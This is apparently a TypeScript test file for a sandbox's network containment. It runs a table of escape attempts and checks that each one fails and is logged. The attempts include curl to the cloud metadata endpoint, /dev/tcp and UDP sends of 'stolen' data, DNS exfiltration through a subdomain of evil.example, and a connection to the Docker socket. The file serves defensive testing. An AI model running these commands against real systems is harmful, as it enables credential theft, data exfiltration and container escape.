import { connect } from 'node:net';
import type { NetworkAttempt } from '@drylane/proto/evidence';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type LiveGround, openLiveGround } from './rerunning.ts';
import type { Servers } from './servers.ts';

let ground: LiveGround;
beforeAll(async () => {
  ground = await openLiveGround('rerun-attacks');
});
afterAll(() => ground[Symbol.asyncDispose]());
beforeEach(() => ground.forget());

const python = (text: string): string => `python3 -c '${text}'; true`;

describe('an attempt to reach anybody else', () => {
  type Attack = (servers: Servers) => {
    command: string;
    attempt: Partial<NetworkAttempt>;
    network?: readonly string[];
  };
  const dial = (family: string, kind: string, act: string): string =>
    python(`import socket; s = socket.socket(socket.${family}, socket.${kind}); s.settimeout(3); s.${act}`);
  const ATTACKS: Readonly<Record<string, Attack>> = {
    'another port of the declared host': (servers) => ({
      command: `curl -s --max-time 5 http://api.example.test:${servers.other}/; true`,
      attempt: { protocol: 'tcp', host: 'api.example.test', port: servers.other },
    }),
    'another host by its name': (servers) => ({
      command: `curl -s http://other.example.test:${servers.other}/; true`,
      attempt: { protocol: 'dns', host: 'other.example.test' },
    }),
    'another host by its address': (servers) => ({
      command: `curl -s --max-time 5 http://198.51.100.7:${servers.other}/; true`,
      attempt: { protocol: 'tcp', address: '198.51.100.7' },
    }),
    'the declared host by its address': (servers) => ({
      command: `curl -s --max-time 5 http://${servers.address}:${servers.port}/; true`,
      attempt: { protocol: 'tcp', address: servers.address, port: servers.port },
    }),
    'another port by the address of the declared host': (servers) => ({
      command: `exec 3<>/dev/tcp/${servers.address}/${servers.other}; true`,
      attempt: { protocol: 'tcp', address: servers.address, port: servers.other },
    }),
    'the bridge of the engine': (servers) => ({
      command: `curl -s --max-time 5 http://${servers.bridge}:${servers.other}/; true`,
      attempt: { protocol: 'tcp', address: servers.bridge },
    }),
    'where clouds give out credentials': () => ({
      command: 'curl -s --max-time 5 http://169.254.169.254/latest/meta-data/; true',
      attempt: { protocol: 'tcp', address: '169.254.169.254' },
    }),
    'the same under a declared name': () => ({
      command: 'curl -s --max-time 5 http://cloud.example.test/latest/meta-data/; true',
      network: ['cloud.example.test:80'],
      attempt: { protocol: 'tcp', address: '169.254.169.254', port: 80 },
    }),
    'the loopback of this machine under a declared name': (servers) => ({
      command: `curl -s --max-time 5 http://rebound.example.test:${servers.loopback}/; true`,
      network: [`rebound.example.test:${servers.loopback}`],
      attempt: { protocol: 'tcp', address: '127.0.0.1', port: servers.loopback },
    }),
    'the loopback of this machine': (servers) => ({
      command: `curl -s http://127.0.0.1:${servers.loopback}/; true`,
      attempt: { protocol: 'tcp', address: '127.0.0.1', port: servers.loopback },
    }),
    'a place that stands for nobody': (servers) => ({
      command: `curl -s http://127.64.0.9:${servers.port}/; true`,
      attempt: { protocol: 'tcp', address: '127.64.0.9' },
    }),
    'the declared host by datagrams': (servers) => ({
      command: dial(
        'AF_INET',
        'SOCK_DGRAM',
        `sendto(b"stolen", ("${servers.address}", ${servers.datagrams}))`,
      ),
      attempt: { protocol: 'udp', address: servers.address, port: servers.datagrams },
    }),
    'its place by datagrams': (servers) => ({
      command: `getent hosts api.example.test; ${dial('AF_INET', 'SOCK_DGRAM', `sendto(b"stolen", ("127.64.0.1", ${servers.datagrams}))`)}`,
      attempt: { protocol: 'udp', host: 'api.example.test', port: servers.datagrams },
    }),
    'a name that carries what was stolen': () => ({
      command: 'getent hosts c3RvbGVu.evil.example; true',
      attempt: { protocol: 'dns', host: 'c3RvbGVu.evil.example' },
    }),
    'a name below the declared one': () => ({
      command: 'getent hosts c3RvbGVu.api.example.test; true',
      attempt: { protocol: 'dns', host: 'c3RvbGVu.api.example.test' },
    }),
    'another host by IPv6': (servers) => ({
      command: dial('AF_INET6', 'SOCK_STREAM', `connect(("2001:db8::7", ${servers.other}))`),
      attempt: { protocol: 'tcp', address: '2001:db8::7' },
    }),
    'the loopback of this machine by IPv6': (servers) => ({
      command: dial('AF_INET6', 'SOCK_STREAM', `connect(("::1", ${servers.other}))`),
      attempt: { protocol: 'tcp', address: '::1', port: servers.other },
    }),
    'the declared host by an IPv4 address in an IPv6 one': (servers) => ({
      command: dial('AF_INET6', 'SOCK_STREAM', `connect(("::ffff:${servers.address}", ${servers.port}))`),
      attempt: { protocol: 'tcp', address: servers.address, port: servers.port },
    }),
    'a socket of this machine': (servers) => ({
      command: dial('AF_UNIX', 'SOCK_STREAM', `connect("${servers.socket}")`),
      attempt: { protocol: 'unix', address: servers.socket },
    }),
    'a socket of this machine without a path': (servers) => ({
      command: dial('AF_UNIX', 'SOCK_STREAM', `connect("\\0${servers.abstract}")`),
      attempt: { protocol: 'unix', address: `@${servers.abstract}` },
    }),
    'the engine': () => ({
      command: dial('AF_UNIX', 'SOCK_STREAM', 'connect("/var/run/docker.sock")'),
      attempt: { protocol: 'unix', address: '/var/run/docker.sock' },
    }),
  };

  it.each(Object.keys(ATTACKS))('fails, and is evidence: %s', async (name) => {
    const attack = ATTACKS[name]?.(ground.servers);
    if (attack === undefined) throw new Error(name);
    const { command, attempt, network } = attack;
    const { servers, asked } = ground;
    const { evidence } = await ground.live(command, network === undefined ? {} : { network });
    expect(evidence.network).toContainEqual(expect.objectContaining({ ...attempt, declared: false }));
    expect(evidence).toMatchObject({ complete: true, timed_out: false });
    expect(servers.knocks).toEqual([]);
    expect(servers.heard).toEqual([]);
    expect(evidence.stdout.text).not.toContain('secret');
    for (const looked of asked) expect(network?.some((each) => each.startsWith(`${looked}:`))).toBe(true);
  });

  it('would be heard of: this machine itself reaches each of those servers', async () => {
    const { servers } = ground;
    for (const to of [
      { host: '127.0.0.1', port: servers.loopback },
      { host: servers.address, port: servers.other },
      { path: servers.socket },
      { path: `\0${servers.abstract}` },
    ])
      await new Promise((done) => connect(to).resume().once('close', done));
    expect(servers.knocks.toSorted()).toEqual(['abstract', 'loopback', 'other', 'socket']);
  });
});
